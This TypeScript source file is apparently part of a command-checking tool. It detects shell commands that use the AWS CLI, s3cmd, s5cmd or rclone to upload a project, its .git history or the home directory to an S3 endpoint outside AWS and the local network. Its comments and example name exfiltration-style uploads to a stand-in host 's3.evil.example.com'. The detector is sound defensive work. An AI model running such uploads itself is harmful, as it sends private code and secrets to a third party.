import path from "node:path";
import type { Field, Invocation } from "../model.js";
import { isLoopbackHost } from "../targets/loopback-hosts.js";

/** An upload of the project, the home directory or a bucket's objects to an S3-compatible store outside the provider. */
export interface ForeignStoreUpload {
  /** The endpoint's host (`s3.evil.example.com`). */
  host: string;
  /** What is sent, completing "sends …": "the project", "a bucket's objects". */
  what: string;
}

/** The S3 clients that take an endpoint: the AWS CLI, s3cmd, s5cmd and rclone. */
const CLIENTS = new Set(["aws", "s3cmd", "s5cmd", "rclone"]);
/** Where each client writes to: a bucket URL, or for rclone a remote (`remote:bucket`, an on-the-fly `:s3,endpoint=…:bucket`). */
const S3_DESTINATION = /^s3:\/\//i;
const RCLONE_DESTINATION = /^(?::s3\b|[\w][\w .-]*:)/;
/**
 * Hosts of AWS itself: `*.amazonaws.com` (and `.com.cn` in China) and the dual-stack `*.api.aws`
 * (AWS General Reference, "Service endpoints").
 */
const AWS_HOST = /(?:^|\.)(?:amazonaws\.com(?:\.cn)?|api\.aws)$/i;
/**
 * Hosts that stay inside the machine or the organization's own network: loopback, a single label
 * (`minio`, `localstack`: a Compose or cluster service name), private IPv4 ranges (RFC 1918), and
 * the special-use suffixes for local networks and clusters (`.local`, `.internal`, `.lan`, `.svc`).
 */
function isPrivateHost(host: string): boolean {
  if (isLoopbackHost(host) || !host.includes(".")) return true;
  if (/^(?:10|192\.168|172\.(?:1[6-9]|2\d|3[01]))\.\d+\.\d+(?:\.\d+)?$/.test(host)) return true;
  return /\.(?:local|internal|lan|home\.arpa|svc|localdomain|test)$/i.test(host);
}

/** A directory of build output or published assets: uploading it to any store is how sites and releases ship. */
const BUILD_OUTPUT = /^(?:dist|build|out|output|public|_site|site|static|www|storybook-static|\.next|\.output|coverage|target|artifacts|release|releases|docs|assets|bundle|export|exports|uploads|media|data|backups?)$/i;

/**
 * The endpoint a command names: `--endpoint-url URL` (aws, s5cmd), `--host HOST` (s3cmd), the AWS
 * CLI's `AWS_ENDPOINT_URL[_S3]` variable, rclone's `--s3-endpoint` or the `endpoint=` of an
 * on-the-fly remote (rclone docs, "Connection strings").
 */
function endpointHost(invocation: Invocation, values: readonly string[]): string | undefined {
  const option = invocation.name === "s3cmd" ? "--host" : invocation.name === "rclone" ? "--s3-endpoint" : "--endpoint-url";
  let endpoint: string | undefined;
  values.forEach((value, index) => {
    if (value === option) endpoint = values[index + 1];
    else if (value.startsWith(`${option}=`)) endpoint = value.slice(option.length + 1);
  });
  if (endpoint === undefined && invocation.name === "aws") endpoint = invocation.assignments.get("AWS_ENDPOINT_URL_S3")?.value ?? invocation.assignments.get("AWS_ENDPOINT_URL")?.value;
  if (endpoint === undefined && invocation.name === "s5cmd") endpoint = invocation.assignments.get("S3_ENDPOINT_URL")?.value;
  if (endpoint === undefined && invocation.name === "rclone") endpoint = values.map((value) => /^:s3,(?:[^:]*,)?endpoint=["']?([^,"']+?)["']?(?:,|:(?!\/\/))/.exec(value)?.[1]).find((found) => found !== undefined);
  if (endpoint === undefined) return undefined;
  return /^(?:[a-z][\w+.-]*:\/\/)?(?:[^/@]*@)?(\[[^\]]+\]|[^/:?#]+)/i.exec(endpoint)?.[1]?.toLowerCase();
}

/** The words that are not options, skipping the values of the options that take one. */
function operands(values: readonly string[]): string[] {
  const found: string[] = [];
  for (let index = 0; index < values.length && index < 64; index++) {
    const value = values[index] as string;
    if (/^--(?:endpoint-url|host|host-bucket|profile|region|exclude|include|acl|storage-class|config|output|query|s3-endpoint|s3-provider|transfers|checkers|bwlimit|filter|log-file|log-level|backup-dir)$/.test(value) || value === "-c") index++;
    else if (!value.startsWith("-") || value === "-") found.push(value);
  }
  return found;
}

/**
 * What a local source of an upload is: the project (its root, with `.git` and `.env`), a directory
 * above it, the home directory, a repository's `.git`, or (for a directory copied whole) a source
 * folder of the project; undefined for anything narrower (a build output, a single file), which
 * stays the engineer's to ship.
 */
function projectSource(source: string, cwd: string | undefined, home: string, directory: boolean): string | undefined {
  // A wildcard over a directory (`*`, `./*`, `~/*`) sends that directory's entries.
  const directoryOf = source === "*" ? "." : source.replace(/\/\*$/, "") || "/";
  const expanded = directoryOf.replace(/^~(?=\/|$)/, home).replace(/^\$\{?HOME\}?(?=\/|$)/, home);
  if (/(?:^|\/)\.git\/?$/.test(expanded)) return "the repository's history (.git)";
  const absolute = path.posix.isAbsolute(expanded) ? path.posix.normalize(expanded) : cwd ? path.posix.resolve(cwd, expanded) : undefined;
  if (absolute === undefined) return /^\.{1,2}\/?$/.test(expanded) ? "the project" : undefined;
  if (absolute === home || absolute === "/") return `the whole of ${absolute}`;
  if (cwd !== undefined && (absolute === cwd || cwd.startsWith(`${absolute}/`))) return absolute === cwd ? "the project" : `${absolute}, a directory holding the project`;
  if (!directory) return undefined;
  if (cwd !== undefined && absolute.startsWith(`${cwd}/`)) {
    const first = absolute.slice(cwd.length + 1).split("/")[0] ?? "";
    return BUILD_OUTPUT.test(first) ? undefined : `${source} of the project`;
  }
  return absolute.startsWith(`${home}/`) ? `${source} from the home directory` : undefined;
}

/**
 * An upload to an S3-compatible endpoint outside AWS and outside this machine's network
 * (`aws s3 sync . s3://b --endpoint-url https://s3.example.net`, `s3cmd --host=x.example.com put -r
 * . s3://b`, `AWS_ENDPOINT_URL=https://… aws s3 cp`): the AWS CLI's `--endpoint-url` (AWS CLI
 * reference, "Global options") sends every request, and the data, to that host, which is a third
 * party's. Judged like any upload there: the project, its history or the home directory, and a
 * bucket's objects copied to it, leave. A build output, a single data file, LocalStack or MinIO on
 * this machine and listings stay allowed.
 *
 * @example
 * foreignStoreUpload(invocation("aws", "s3", "sync", ".", "s3://b", "--endpoint-url", "https://x.example.net"), "/work/app", "/home/ada")?.what // "the project"
 */
export function foreignStoreUpload(invocation: Invocation, cwd: string | undefined, home: string): ForeignStoreUpload | undefined {
  if (!CLIENTS.has(invocation.name)) return undefined;
  const values = invocation.argv.slice(1, 65).map((field: Field) => field.value ?? "");
  const host = endpointHost(invocation, values);
  if (host === undefined || AWS_HOST.test(host) || isPrivateHost(host)) return undefined;
  const words = operands(values);
  const verbs = invocation.name === "aws" ? (words[0] === "s3" ? words.slice(1) : []) : words;
  if (!["cp", "mv", "sync", "put", "copy", "copyto", "move", "moveto"].includes(verbs[0] ?? "")) return undefined;
  const remote = invocation.name === "rclone" ? RCLONE_DESTINATION : S3_DESTINATION;
  const destination = verbs.at(-1) ?? "";
  const sources = verbs.slice(1, -1);
  if (!remote.test(destination) || sources.length === 0) return undefined;
  if (sources.some((source) => remote.test(source))) return { host, what: "a bucket's objects" };
  // A directory copied whole: `sync`, `--recursive`, s3cmd's `-r`, or s5cmd's wildcard source (`cp '*' s3://b/`).
  const directory = verbs[0] === "sync" || (invocation.name === "rclone" && !verbs[0]?.endsWith("to")) || sources.some((source) => source.includes("*")) || values.some((value) => value === "--recursive" || /^-[a-zA-Z]*r[a-zA-Z]*$/.test(value));
  const project = sources.map((source) => projectSource(source, cwd, home, directory)).find((what) => what !== undefined);
  return project ? { host, what: project } : undefined;
}
